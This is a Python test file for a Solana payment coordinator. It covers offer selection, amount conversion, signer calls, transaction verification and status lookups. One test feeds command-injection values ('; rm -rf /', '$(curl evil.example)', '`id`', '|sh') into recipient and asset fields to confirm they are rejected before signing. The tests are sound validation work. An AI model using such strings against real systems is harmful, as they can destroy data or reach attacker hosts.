"""Tests for offer resolution, payment execution and on-chain verification."""

import asyncio
import json
from decimal import Decimal

import httpx
import pytest

from autopay.coordinator import PaymentCoordinator, TransactionStatus
from autopay.errors import InvalidPaymentParameter, NoMatchingOffer, PaymentExecutionFailed
from autopay.ledger import SolanaRpcClient
from autopay.money import format_amount
from autopay.networks import DEVNET, MAINNET
from autopay.offers import PaymentInstruction, PaymentOffer


PAYER = "7EqQdEULxWcraVx3mXKFjc84LhCkMGZCkRuDpvcMwJeK"
RECIPIENT = "9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin"
OTHER = "HN7cABqLq46Es1jh92dQQisAq662SmxELLLsHHe4YWrH"
USDC = DEVNET.usdc_mint
SIG = "5" * 44 + "K" * 44


class FakeSigner:
    def __init__(self, signature=SIG, error=None):
        self.signature = signature
        self.error = error
        self.calls = []

    async def submit(self, recipient, amount, asset):
        self.calls.append((recipient, amount, asset))
        if self.error:
            raise self.error
        return self.signature


def rpc_client(responses):
    """SolanaRpcClient backed by a canned method -> result table."""
    calls = []

    def handler(request):
        body = json.loads(request.content)
        calls.append(body)
        value = responses[body["method"]]
        if callable(value):
            return value(body)
        return httpx.Response(200, json={"jsonrpc": "2.0", "id": body["id"], "result": value})

    http = httpx.AsyncClient(transport=httpx.MockTransport(handler))
    return SolanaRpcClient("https://rpc.test", http=http), calls


def native_tx(recipient=RECIPIENT, pre=0, post=250_000, err=None):
    return {
        "slot": 1,
        "meta": {
            "err": err,
            "preBalances": [5_000_000_000, pre],
            "postBalances": [4_999_745_000, post],
            "preTokenBalances": [],
            "postTokenBalances": [],
        },
        "transaction": {
            "message": {
                "accountKeys": [
                    {"pubkey": PAYER, "signer": True},
                    {"pubkey": recipient, "signer": False},
                ]
            }
        },
    }


def token_balance(index, owner, amount, mint=USDC):
    return {
        "accountIndex": index,
        "mint": mint,
        "owner": owner,
        "uiTokenAmount": {"amount": str(amount), "decimals": 6},
    }


def token_tx(post_entries, pre_entries, err=None):
    return {
        "slot": 1,
        "meta": {
            "err": err,
            "preBalances": [5_000_000_000, 2_039_280, 2_039_280],
            "postBalances": [4_999_995_000, 2_039_280, 2_039_280],
            "preTokenBalances": pre_entries,
            "postTokenBalances": post_entries,
        },
        "transaction": {"message": {"accountKeys": [PAYER, "TokenAcct1", "TokenAcct2"]}},
    }


def offer(**kwargs):
    defaults = dict(network="solana-devnet", asset=USDC, amount=250_000, recipient=RECIPIENT)
    defaults.update(kwargs)
    return PaymentOffer(**defaults)


class TestResolveOffer:
    def test_picks_first_offer_on_configured_network(self):
        coordinator = PaymentCoordinator("solana-devnet")
        offers = [
            offer(network="eip155:8453"),
            offer(network=DEVNET.caip2, amount=100),
            offer(network="devnet", amount=200),
        ]
        instruction = coordinator.resolve_offer(offers, service_id="svc-1")
        assert instruction.amount == 100
        assert instruction.service_id == "svc-1"
        assert instruction.estimated_fee == 5000

    def test_alias_matches(self):
        coordinator = PaymentCoordinator(DEVNET.caip2)
        instruction = coordinator.resolve_offer([offer(network="solana-devnet")], "svc")
        assert instruction.recipient == RECIPIENT

    def test_no_matching_offer(self):
        coordinator = PaymentCoordinator("solana-devnet")
        with pytest.raises(NoMatchingOffer, match="eip155:8453"):
            coordinator.resolve_offer([offer(network="eip155:8453"), offer(network="solana")], "svc")

    def test_instruction_is_immutable(self):
        instruction = PaymentInstruction(offer=offer(), service_id="svc")
        with pytest.raises(AttributeError):
            instruction.service_id = "other"


class TestAmounts:
    def test_usdc_base_units(self):
        coordinator = PaymentCoordinator("solana-devnet")
        amount = coordinator.amount_decimal(offer(amount=250_000))
        assert amount == Decimal("0.25")
        assert format_amount(amount) == "0.25"

    def test_native_sol_uses_nine_decimals(self):
        coordinator = PaymentCoordinator("solana-devnet")
        assert coordinator.amount_decimal(offer(asset="SOL", amount=1_500_000_000)) == Decimal("1.5")


class TestExecutePayment:
    def test_passes_discrete_arguments_to_signer(self):
        signer = FakeSigner()
        coordinator = PaymentCoordinator("solana-devnet", signer=signer)
        signature = asyncio.run(coordinator.execute_payment(offer(), RECIPIENT))
        assert signature == SIG
        assert signer.calls == [(RECIPIENT, 250_000, USDC)]

    @pytest.mark.parametrize(
        "recipient",
        [
            RECIPIENT + "; rm -rf /",
            "$(curl evil.example)",
            "`id`",
            "short",
            "0OIl" * 10,
            "",
        ],
    )
    def test_rejects_unsafe_recipient_before_signer(self, recipient):
        signer = FakeSigner()
        coordinator = PaymentCoordinator("solana-devnet", signer=signer)
        with pytest.raises(InvalidPaymentParameter):
            asyncio.run(coordinator.execute_payment(offer(recipient=recipient), recipient))
        assert signer.calls == []

    def test_rejects_unsafe_asset(self):
        signer = FakeSigner()
        coordinator = PaymentCoordinator("solana-devnet", signer=signer)
        with pytest.raises(InvalidPaymentParameter, match="asset"):
            asyncio.run(coordinator.execute_payment(offer(asset=USDC + "|sh"), RECIPIENT))
        assert signer.calls == []

    def test_native_asset_symbol_allowed(self):
        signer = FakeSigner()
        coordinator = PaymentCoordinator("solana-devnet", signer=signer)
        asyncio.run(coordinator.execute_payment(offer(asset="SOL", amount=1000), RECIPIENT))
        assert signer.calls == [(RECIPIENT, 1000, "SOL")]

    @pytest.mark.parametrize("amount", [0, -5])
    def test_rejects_non_positive_amount(self, amount):
        signer = FakeSigner()
        coordinator = PaymentCoordinator("solana-devnet", signer=signer)
        with pytest.raises(InvalidPaymentParameter, match="amount"):
            asyncio.run(coordinator.execute_payment(offer(amount=amount), RECIPIENT))
        assert signer.calls == []

    def test_security_rejection_is_audited(self, tmp_path):
        from autopay.audit import AuditTrail, EventType

        trail = AuditTrail(tmp_path / "audit.jsonl", key_path=tmp_path / "keys" / "audit.key")
        coordinator = PaymentCoordinator("solana-devnet", signer=FakeSigner(), audit=trail)
        with pytest.raises(InvalidPaymentParameter):
            asyncio.run(coordinator.execute_payment(offer(), "bad;addr"))
        events = trail.read_events(event_type=EventType.SECURITY_REJECTED)
        assert len(events) == 1
        assert events[0].details == {"field": "recipient"}

    def test_signer_errors_become_execution_failures(self):
        coordinator = PaymentCoordinator("solana-devnet", signer=FakeSigner(error=RuntimeError("hsm offline")))
        with pytest.raises(PaymentExecutionFailed, match="hsm offline") as exc_info:
            asyncio.run(coordinator.execute_payment(offer(), RECIPIENT))
        assert "RuntimeError" in exc_info.value.diagnostics

    def test_malformed_signature_from_signer(self):
        coordinator = PaymentCoordinator("solana-devnet", signer=FakeSigner(signature="not a sig"))
        with pytest.raises(PaymentExecutionFailed, match="malformed"):
            asyncio.run(coordinator.execute_payment(offer(), RECIPIENT))

    def test_no_signer(self):
        coordinator = PaymentCoordinator("solana-devnet")
        with pytest.raises(PaymentExecutionFailed, match="No signer"):
            asyncio.run(coordinator.execute_payment(offer(), RECIPIENT))


class TestVerifyTransaction:
    def verify(self, tx_result, amount=250_000, asset=USDC, recipient=RECIPIENT):
        rpc, calls = rpc_client({"getTransaction": tx_result})
        coordinator = PaymentCoordinator("solana-devnet", rpc=rpc)
        verified = asyncio.run(coordinator.verify_transaction(SIG, recipient, amount, asset))
        return verified, calls

    def test_native_delta_meets_expected(self):
        verified, calls = self.verify(native_tx(pre=10, post=250_010), asset="SOL")
        assert verified is True
        params = calls[0]["params"]
        assert params[0] == SIG
        assert params[1]["encoding"] == "jsonParsed"
        assert params[1]["maxSupportedTransactionVersion"] == 0

    def test_native_delta_below_expected(self):
        verified, _ = self.verify(native_tx(post=249_999), asset="SOL")
        assert verified is False

    def test_native_recipient_absent(self):
        verified, _ = self.verify(native_tx(recipient=OTHER), asset="SOL")
        assert verified is False

    def test_not_found(self):
        verified, _ = self.verify(None)
        assert verified is False

    def test_ledger_execution_error(self):
        tx = native_tx(err={"InstructionError": [0, "Custom"]})
        verified, _ = self.verify(tx, asset="SOL")
        assert verified is False

    def test_token_transfer_pairs_by_account_index(self):
        tx = token_tx(
            post_entries=[token_balance(1, PAYER, 750_000), token_balance(2, RECIPIENT, 1_250_000)],
            pre_entries=[token_balance(2, RECIPIENT, 1_000_000), token_balance(1, PAYER, 1_000_000)],
        )
        verified, _ = self.verify(tx, amount=250_000)
        assert verified is True

    def test_token_new_account_without_pre_entry(self):
        tx = token_tx(
            post_entries=[token_balance(1, PAYER, 750_000), token_balance(2, RECIPIENT, 250_000)],
            pre_entries=[token_balance(1, PAYER, 1_000_000)],
        )
        verified, _ = self.verify(tx, amount=250_000)
        assert verified is True

    def test_token_wrong_mint(self):
        tx = token_tx(
            post_entries=[token_balance(2, RECIPIENT, 250_000, mint=MAINNET.usdc_mint)],
            pre_entries=[],
        )
        verified, _ = self.verify(tx)
        assert verified is False

    def test_token_delta_below_expected(self):
        tx = token_tx(
            post_entries=[token_balance(2, RECIPIENT, 1_100_000)],
            pre_entries=[token_balance(2, RECIPIENT, 1_000_000)],
        )
        verified, _ = self.verify(tx, amount=250_000)
        assert verified is False

    def test_token_ambiguous_entries(self):
        tx = token_tx(
            post_entries=[token_balance(1, RECIPIENT, 250_000), token_balance(2, RECIPIENT, 250_000)],
            pre_entries=[],
        )
        verified, _ = self.verify(tx, amount=250_000)
        assert verified is False

    def test_malformed_transaction(self):
        verified, _ = self.verify({"meta": {"err": None}})
        assert verified is False

    def test_rpc_error_object(self):
        def error(body):
            return httpx.Response(
                200,
                json={"jsonrpc": "2.0", "id": body["id"], "error": {"code": -32602, "message": "bad"}},
            )

        verified, _ = self.verify(error)
        assert verified is False

    def test_http_failure(self):
        verified, _ = self.verify(lambda body: httpx.Response(503))
        assert verified is False

    def test_settle_reports_transferred_amount(self):
        rpc, _ = rpc_client({"getTransaction": native_tx(post=300_000)})
        coordinator = PaymentCoordinator("solana-devnet", rpc=rpc)
        instruction = PaymentInstruction(offer=offer(asset="SOL", amount=250_000), service_id="svc")
        outcome = asyncio.run(coordinator.settle(SIG, instruction))
        assert outcome.verified is True
        assert outcome.amount == 300_000


class TestTransactionStatus:
    def status(self, value):
        rpc, _ = rpc_client({"getSignatureStatuses": value})
        coordinator = PaymentCoordinator("solana-devnet", rpc=rpc)
        return asyncio.run(coordinator.get_transaction_status(SIG))

    def test_finalized(self):
        result = {"context": {"slot": 5}, "value": [{"confirmationStatus": "finalized", "err": None}]}
        assert self.status(result) == TransactionStatus.FINALIZED

    def test_confirmed(self):
        result = {"context": {"slot": 5}, "value": [{"confirmationStatus": "processed", "err": None}]}
        assert self.status(result) == TransactionStatus.CONFIRMED

    def test_not_found(self):
        assert self.status({"context": {"slot": 5}, "value": [None]}) == TransactionStatus.NOT_FOUND

    def test_rpc_failure_is_not_found(self):
        assert self.status(lambda body: httpx.Response(500)) == TransactionStatus.NOT_FOUND
